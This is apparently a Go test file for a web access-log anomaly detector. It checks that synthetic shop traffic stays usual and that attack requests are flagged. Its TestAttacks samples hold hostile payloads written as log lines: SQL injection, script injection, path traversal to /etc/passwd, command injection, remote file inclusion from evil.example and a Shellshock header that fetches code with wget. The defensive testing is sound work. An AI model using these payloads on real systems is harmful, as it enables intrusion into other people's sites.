package detect

import (
	"bytes"
	"fmt"
	"testing"

	"github.com/logscope/logscope/engine/sketch"
)

// shop is the usual traffic of a site: pages, pictures, a search, a form.
func shop(n int) string {
	i := int(mix(uint64(n), mixB) >> 40)
	agent := [...]string{
		fmt.Sprintf("Mozilla/5.0 (X11; Linux x86_64; rv:%d.0) Gecko/20100101 Firefox/%d.0", 90+i%31, 90+i%31),
		fmt.Sprintf("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%d.0.0.0 Safari/537.36", 100+i%29),
		fmt.Sprintf("Mozilla/5.0 (compatible; bot%c/2.1; +http://%c.example/bot.html)", 'a'+i%23, 'a'+i%23),
	}[i%3]
	words := [...]string{"red+shoes", "blue%20hat", "socks", "winter+coat", "size+42", "caf%C3%A9"}
	method, url, status := "GET", "", 200
	switch i / 6 % 10 {
	case 0, 1:
		url = "/"
	case 2, 3:
		url = fmt.Sprintf("/item/%d", i*31%997)
	case 4:
		url = fmt.Sprintf("/img/%s-%d.jpg", [...]string{"shoe", "hat", "coat"}[i%3], i*17%400)
	case 5:
		url = fmt.Sprintf("/search?q=%s&page=%d", words[i%6], i/60%8)
	case 6:
		url = fmt.Sprintf("/list?cat=%s&sort=%s", [...]string{"men", "women", "kids"}[i%3], [...]string{"price", "name"}[i/60%2])
	case 7:
		method, url, status = "POST", "/cart", 302
	case 8:
		if url = "/style.css"; i%5 == 0 {
			status = 304
		}
	default:
		if url = "/about/contact.html"; i%7 == 0 {
			url, status = fmt.Sprintf("/old/page-%d.html", i%1000), 404
		}
	}
	return request1(i, method, url, status, "https://shop.example/", agent)
}

func request1(i int, method, url string, status int, referrer, agent string) string {
	return fmt.Sprintf(`10.0.%d.%d - - [02/Mar/2026:10:00:00 +0000] "%s %s HTTP/1.1" %d %d "%s" "%s"`,
		i%5, i%200, method, url, status, 300+i*13%5000, referrer, agent)
}

// ask scores a line, and learns it unless it is only a question.
func ask(t testing.TB, a *Access, line string, learn bool) float64 {
	t.Helper()
	if !a.Parse([]byte(line)) {
		t.Fatalf("%s: is no request", line)
	}
	odd := a.Test()
	if learn {
		a.Learn()
	}
	return odd
}

func open(t testing.TB, n int) *Access {
	a := &Access{}
	for i := range n {
		ask(t, a, shop(i), true)
	}
	return a
}

// TestAttacks asks for every kind of attack, and for requests as unusual as
// any site's users make them.
func TestAttacks(t *testing.T) {
	const browser = "Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0"
	a := open(t, 4000)
	get := func(url string, status int) string { return request1(1, "GET", url, status, "-", browser) }
	attacks := map[string]string{
		"sql":              get("/search?q=x%27%20OR%201%3D1--&page=1", 200),
		"sql union":        get("/item/12%20union%20select%20name,pass%20from%20users", 404),
		"script":           get("/search?q=%3Cscript%3Ealert(1)%3C/script%3E&page=2", 200),
		"script twice":     get("/search?q=%253Cscript%253Ealert(1)%253C/script%253E&page=2", 200),
		"traversal":        get("/img/../../../../etc/passwd", 404),
		"traversal value":  get("/list?cat=..%2f..%2f..%2fetc%2fpasswd%00&sort=name", 200),
		"command":          get("/list?cat=men%3Bcat%20/etc/hosts%7C&sort=name", 500),
		"template":         get("/search?q=%7B%7B7*7%7D%7D&page=1", 500),
		"inclusion":        get("/list?cat=http://evil.example/shell.txt%3F&sort=price", 200),
		"unknown program":  get("/cgi-bin/.%2e/test.cgi?cmd=id", 404),
		"method":           request1(1, "TRACK", "/cart/%22x", 405, "-", browser),
		"attack by header": request1(1, "GET", "/", 200, "-", `() { :;}; /bin/bash -c \"wget http://evil.example/x\"`),
	}
	for name, line := range attacks {
		if odd := ask(t, a, line, false); odd < 1 {
			t.Errorf("%s: got %.2f of the limit; want 1 or more: %s", name, odd, line)
		}
	}
	usual := map[string]string{
		"other item":     get("/item/998", 200),
		"other picture":  get("/img/scarf-12.jpg", 200),
		"other words":    get("/search?q=green+umbrella&page=3", 200),
		"next page":      get("/search?q=socks&page=7", 200),
		"broken link":    get("/old/page-77.html", 404),
		"other browser":  request1(1, "GET", "/", 200, "-", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) Safari/604.1"),
		"from elsewhere": request1(1, "GET", "/item/5", 200, "https://forum.example/t/shoes?page=2", browser),
		"not changed":    get("/style.css", 304),
	}
	for name, line := range usual {
		if odd := ask(t, a, line, false); odd >= 1 {
			t.Errorf("%s: got %.2f of the limit; want less than 1: %s", name, odd, line)
		}
	}
}

// TestScanTeachesNothing lets a scan of 1,000 requests pass: one more is as odd
// as the first ones, and the site's own requests stay usual.
func TestScanTeachesNothing(t *testing.T) {
	a := open(t, 4000)
	attack := func(i int) string {
		return request1(3, "GET", fmt.Sprintf("/list?cat=%d'%%20or%%20%d=%d--%%20&sort=price", i, i*7, i*7), 500, "-", "curl/8.1")
	}
	for i := range 1000 {
		ask(t, a, attack(i), true)
		ask(t, a, shop(4000+i), true)
	}
	if odd := ask(t, a, attack(5000), false); odd < 1 {
		t.Errorf("got %.2f of the limit for an attack behind the scan; want 1 or more", odd)
	}
}

// TestReleaseQuietsDown brings a new part of the site: it is usual within 2,000 lines.
func TestReleaseQuietsDown(t *testing.T) {
	a := open(t, 4000)
	fresh := func(i int) string {
		return request1(i, "PUT", fmt.Sprintf("/api/v2/basket/%d?fields=id,price&token=%x", i, i*7919), 201, "https://shop.example/", "shop-app/3")
	}
	for i := range 1500 {
		ask(t, a, shop(4000+i), true)
		if i%3 == 0 {
			ask(t, a, fresh(i), true)
		}
	}
	for i := range 20 {
		if odd := ask(t, a, fresh(9000+i), true); odd >= 1 {
			t.Errorf("got %.2f of the limit for a request of the new part; want less than 1", odd)
		}
	}
}

// TestQuiet counts what is odd in traffic without attacks.
func TestQuiet(t *testing.T) {
	a := open(t, 1000)
	odd := 0
	for i := range 20_000 {
		if ask(t, a, shop(1000+i), true) >= 1 {
			odd++
		}
	}
	if odd > 20 {
		t.Errorf("got %d of 20,000 usual requests odd; want 20 or fewer", odd)
	}
}

// TestAccessMemory asks for a million paths: what is known stays bounded, and
// the site's own pages stay known.
func TestAccessMemory(t *testing.T) {
	n := 1_000_000
	if testing.Short() {
		n = 50_000
	}
	a := open(t, 4000)
	for i := range n {
		ask(t, a, request1(i, "GET", fmt.Sprintf("/p%x/q%x.html?k%x=v%x", i*7919, i, i, i*31), 200, "-", fmt.Sprintf("a%x", i)), true)
		if i%10 == 0 {
			ask(t, a, shop(i), true)
		}
	}
	if got := a.Bytes(); got > 4<<20 {
		t.Errorf("got %d bytes behind %d paths; want 4 MB or less", got, n)
	}
	if cap(a.look.buf) > 64<<10 {
		t.Errorf("got a buffer of %d bytes; want 64 KB or less", cap(a.look.buf))
	}
	if odd := ask(t, a, shop(1), false); odd >= 1 {
		t.Errorf("got %.2f of the limit for the site's first page; want less than 1", odd)
	}
}

// TestAccessRoundTrip writes what is known and reads it back: the same requests
// are as odd as before, and every part of the bytes alone is refused.
func TestAccessRoundTrip(t *testing.T) {
	a := open(t, 3000)
	w := sketch.NewWriter(nil)
	a.Sync(w)
	var b Access
	r := sketch.NewReader(w.Bytes())
	if b.Sync(r); r.Err() != nil || len(r.Bytes()) > 0 {
		t.Fatalf("got error %v and %d bytes left; want none", r.Err(), len(r.Bytes()))
	}
	again := sketch.NewWriter(nil)
	if b.Sync(again); !bytes.Equal(again.Bytes(), w.Bytes()) {
		t.Error("got other bytes the second time")
	}
	for i := range 2000 {
		line := shop(3000 + i)
		if i%10 == 0 {
			line = request1(i, "GET", fmt.Sprintf("/search?q=%%27%d--&x=%d", i, i), 200, "-", "x")
		}
		if got, want := ask(t, &b, line, true), ask(t, a, line, true); got != want {
			t.Fatalf("got %v; want %v as without a restart: %s", got, want, line)
		}
	}
	for cut := 0; cut < len(w.Bytes()); cut += 9973 {
		var c Access
		r := sketch.NewReader(w.Bytes()[:cut])
		if c.Sync(r); r.Err() == nil {
			t.Fatalf("got no error for %d of %d bytes", cut, len(w.Bytes()))
		}
	}
}

// TestAccessAllocates nothing once the site is known.
func TestAccessAllocates(t *testing.T) {
	a := open(t, 6000)
	lines := make([][]byte, 500)
	for i := range lines {
		lines[i] = []byte(shop(3000 + i))
	}
	got := testing.AllocsPerRun(20, func() {
		for _, line := range lines {
			a.Parse(line)
			a.Test()
			a.Learn()
		}
	})
	if got > 0 {
		t.Errorf("got %v allocations for %d requests; want 0", got, len(lines))
	}
}

// FuzzAccess feeds lines of any bytes to a model that learns them.
func FuzzAccess(f *testing.F) {
	f.Add([]byte(shop(5)))
	f.Add([]byte(`1.2.3.4 - - [x] "GET /a?%%%u00&=&&a=%2525\x4\u00 HTTP/1.1" 200 1 "http://" "\"`))
	f.Add([]byte(`"GET ?"`))
	f.Add([]byte(`"PUT ///..//\\?=?=&;"x`))
	known := open(f, 400)
	f.Fuzz(func(t *testing.T, line []byte) {
		if !known.Parse(line) {
			return
		}
		odd := known.Test()
		if !(odd >= 0 && odd < 100) {
			t.Fatalf("got %v of the limit", odd)
		}
		first, second := known.Odd()
		if first.Part >= parts || second.Part >= parts || first.Part == second.Part {
			t.Fatalf("got %+v and %+v", first, second)
		}
		if odd != known.Test() {
			t.Fatal("got another answer the second time")
		}
		known.Learn()
	})
}

// FuzzAccessSync reads damaged state, which must be refused or work.
func FuzzAccessSync(f *testing.F) {
	w := sketch.NewWriter(nil)
	(&Access{}).Sync(w)
	f.Add(w.Bytes())
	f.Fuzz(func(t *testing.T, data []byte) {
		var a Access
		r := sketch.NewReader(data)
		if a.Sync(r); r.Err() == nil {
			ask(t, &a, shop(1), true)
		}
	})
}

func BenchmarkAccess(b *testing.B) {
	a := open(b, 6000)
	lines := make([][]byte, 5000)
	for i := range lines {
		lines[i] = []byte(shop(6000 + i))
	}
	b.ReportAllocs()
	for i := 0; b.Loop(); i++ {
		a.Parse(lines[i%len(lines)])
		a.Test()
		a.Learn()
	}
}
